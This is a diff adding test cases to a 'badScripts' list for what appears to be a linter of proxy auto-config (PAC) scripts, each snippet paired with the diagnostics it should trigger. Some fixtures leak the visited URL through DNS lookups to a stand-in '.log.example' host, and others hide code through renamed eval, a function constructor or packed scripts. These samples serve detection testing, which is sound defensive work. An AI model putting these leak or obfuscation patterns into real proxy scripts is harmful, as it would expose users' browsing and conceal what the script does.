@@ -385,4 +385,143 @@ export const badScripts: readonly BadScript[] = [
   ['a table that counts', `var count = {};\n${pac('count[host] = count[host] + 1;', proxy)}`, ['3 global-state']],
   ['weeks past the year', pac('if (dateRange(20, "DEC", 6, "JAN")) return "DIRECT";', proxy), ['2 range-wrap']],
   ['a name of numbers', pac('return String.fromCharCode(68, 73, 82, 69, 67, 84);'), ['2 obfuscation']],
+  // answers on their way through functions and variables
+  [
+    'a function of the script that ends without an answer',
+    `function choose(host) {\n  if (isPlainHostName(host)) return "DIRECT";\n}\n${pac('return choose(host);')}`,
+    ['1 missing-return'],
+  ],
+  [
+    'a function of the script that gives null',
+    `function choose(host) {\n  if (isPlainHostName(host)) return null;\n  ${proxy}\n}\n${pac('return choose(host);')}`,
+    ['2 not-a-string'],
+  ],
+  [
+    'a function of the script that gives a word that nobody knows',
+    `function choose(host) {\n  return isPlainHostName(host) ? "DIRECTT" : "PROXY proxy.example.com:3128";\n}\n${pac('return choose(host);')}`,
+    ['2 proxy-word'],
+  ],
+  [
+    'a word that nobody knows, in a variable',
+    pac('var answer = "PROXY proxy.example.com:3128";', 'if (isPlainHostName(host)) answer = "DIRCT";', 'return answer;'),
+    ['3 proxy-word'],
+  ],
+  [
+    'a variable without a value',
+    pac('var answer;', 'if (isPlainHostName(host)) answer = "DIRECT";', 'return answer;'),
+    ['4 missing-return'],
+  ],
+  ['a line that ends behind return', pac('return', '"PROXY proxy.example.com:3128";'), ['2 not-a-string', '3 missing-return']],
+  ['a blank before the first entry', pac('return " PROXY proxy.example.com:3128";'), ['2 proxy-syntax']],
+  ['two ports', pac('return "PROXY proxy.example.com:3128:8080";'), ['2 proxy-syntax']],
+  [
+    'a password in pieces',
+    pac('var a = "user", b = "hunter2";', 'return "PROXY " + a + ":" + b + "@proxy.example.com:3128";'),
+    ['3 credentials'],
+  ],
+  ['a password under its name', `var proxyPassword = "hunter2";\n${pac(proxy)}`, ['1 credentials']],
+  ['a password under a short name', `// user: corp, pwd=hunter2\n${pac(proxy)}`, ['1 credentials']],
+  ['a basic sign-in', pac('// Proxy-Authorization: Basic dXNlcjpodW50ZXIy', proxy), ['2 credentials']],
+  // arguments that are other ones
+  [
+    'a function that is not called, as an argument',
+    pac('if (isInNet(myIpAddress, "10.0.0.0", "255.0.0.0")) return "DIRECT";', proxy),
+    ['2 argument-kind'],
+  ],
+  ['the word host', pac('if (isPlainHostName("host")) return "DIRECT";', proxy), ['2 argument-kind']],
+  ['the word url', pac('if (shExpMatch("url", "ftp:*")) return "DIRECT";', proxy), ['2 argument-kind']],
+  [
+    'a list for a domain',
+    pac('if (dnsDomainIs(host, [".a.example", ".b.example"])) return "DIRECT";', proxy),
+    ['2 argument-kind'],
+  ],
+  ['a month as a number', pac('if (dateRange(1, 6, 2026, 15, 8, 2026)) return "DIRECT";', proxy), ['2 range-value']],
+  // what hides
+  ['fromCharCode with apply', pac('return String.fromCharCode.apply(null, [68, 73, 82, 69, 67, 84]);'), ['2 obfuscation']],
+  ['the constructor of functions', pac('return "".constructor.constructor("return \'DIRECT\'")();'), ['2 obfuscation']],
+  ['a text backwards', pac('return "TCERID".split("").reverse().join("");'), ['2 obfuscation']],
+  [
+    'brackets',
+    `var a = (![]+[])[+!+[]];\n${pac('return a == "x" ? "DIRECT" : "PROXY proxy.example.com:3128";')}`,
+    ['1 obfuscation'],
+  ],
+  ['eval under another name', pac('this["ev" + "al"]("1");', proxy), ['2 obfuscation']],
+  ['letters in per cent', pac('return decodeURIComponent("%44%49%52%45%43%54");'), ['2 obfuscation']],
+  [
+    'a packed script',
+    'eval(function (p, k) { while (k.length) p = p.replace("0", k.pop()); return p; }("0", ["function FindProxyForURL() {}"]))',
+    ['1 obfuscation'],
+  ],
+  // what is sent out
+  [
+    'the URL in a DNS name, through a function',
+    `function tell(data) {\n  return isResolvable(data + ".log.example");\n}\n${pac('if (host == "a.example") tell(url);', proxy)}`,
+    ['2 dns-leak'],
+  ],
+  [
+    'the URL in a DNS name, out of a list',
+    pac(
+      'var parts = [];',
+      'for (var i = 0; i < url.length; i++) parts.push(url.charCodeAt(i).toString(16));',
+      'if (host == "a.example") dnsResolve(parts.join("") + ".log.example");',
+      proxy,
+    ),
+    ['4 dns-leak'],
+  ],
+  [
+    'the URL in a DNS name that a function makes',
+    `function name(text) {\n  return text.replace(/[^a-z]/g, "") + ".log.example";\n}\n${pac('if (host == "a.example") dnsResolve(name(url));', proxy)}`,
+    ['5 dns-leak'],
+  ],
+  // dots and stars
+  ['a regular expression in a text', pac('if (host.match("^www.example.com$")) return "DIRECT";', proxy), ['2 regexp-dot']],
+  ['a network without its backslash', pac('if (/^10./.test(host)) return "DIRECT";', proxy), ['2 regexp-dot']],
+  ['a domain without its backslash', pac('if (/.example\\.com$/.test(host)) return "DIRECT";', proxy), ['2 regexp-dot']],
+  ['the beginning or any character', pac('if (/(^|.)example\\.com$/.test(host)) return "DIRECT";', proxy), ['2 regexp-dot']],
+  ['a star behind the domain', pac('if (shExpMatch(host, "*.example.com*")) return "DIRECT";', proxy), ['2 glob-wide']],
+  [
+    'a star behind the host of a URL',
+    pac('if (shExpMatch(url, "http://www.example.com*")) return "DIRECT";', proxy),
+    ['2 glob-wide'],
+  ],
+  ['a question mark for a dot', pac('if (shExpMatch(host, "*?example?com")) return "DIRECT";', proxy), ['2 glob-wide']],
+  ['patterns with commas', pac('if (shExpMatch(host, "*.a.example,*.b.example")) return "DIRECT";', proxy), ['2 glob-never']],
+  [
+    'a path of https, in a piece of the URL',
+    pac('if (url.substring(0, 31) == "https://www.example.com/private") return "DIRECT";', proxy),
+    ['2 https-path'],
+  ],
+  [
+    'the URL of web pages',
+    pac('var parts = new URL(url);', 'if (parts.port == "8080") return "DIRECT";', proxy),
+    ['2 undeclared'],
+  ],
+  [
+    'DNS before a name, in cases',
+    pac(
+      'switch (true) {',
+      'case isInNet(host, "10.0.0.0", "255.0.0.0"): return "DIRECT";',
+      'case isPlainHostName(host): return "DIRECT";',
+      `default: ${proxy}`,
+      '}',
+    ),
+    ['3 dns-first'],
+  ],
+  [
+    'the same condition, in cases',
+    pac(
+      'switch (true) {',
+      'case dnsDomainIs(host, ".example.com"): return "DIRECT";',
+      'case dnsDomainIs(host, ".www.example.com"): return "PROXY www.example.com:3128";',
+      'case dnsDomainIs(host, ".example.com"): return "PROXY a.example.com:3128";',
+      `default: ${proxy}`,
+      '}',
+    ),
+    ['4 shadowed', '5 duplicate'],
+  ],
+  [
+    'the last of a list',
+    pac('var list = ["a"];', 'if (list.lastIndexOf(host) >= 0) return "DIRECT";', proxy),
+    ['3 modern-method'],
+  ],
 ]
